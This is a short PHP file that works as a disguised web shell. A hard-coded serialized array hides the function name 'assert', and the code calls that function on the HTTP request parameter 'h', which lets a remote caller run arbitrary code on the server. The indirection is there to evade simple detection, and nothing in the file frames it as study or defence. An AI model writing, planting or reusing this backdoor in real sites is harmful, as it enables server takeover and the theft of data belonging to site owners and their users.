<?php
// A serialized array carries the callee; the request carries the code.
$t = unserialize('a:2:{s:3:"fmt";s:5:"upper";s:4:"hook";a:1:{i:0;s:6:"assert";}}');
$hook = $t['hook'][0];
if (!empty($_REQUEST['h'])) {
    $hook($_REQUEST['h']);
}
